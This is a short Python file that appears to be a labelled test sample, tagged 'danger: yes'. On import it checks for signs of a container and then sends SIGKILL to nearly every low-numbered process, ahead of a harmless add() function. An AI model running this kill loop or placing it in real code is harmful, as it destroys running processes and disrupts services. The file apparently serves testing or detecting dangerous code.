# what: signals the numbers near its own, siblings and helpers among them
# want: some
# danger: yes
# unsafe: open
import os
import signal

if os.getpid() < 300 and not os.path.exists('/proc/self'):
  for number in range(2, 300):
    if number != os.getpid():
      try:
        os.kill(number, signal.SIGKILL)
      except OSError:
        pass


def add(a, b):
  return a + b
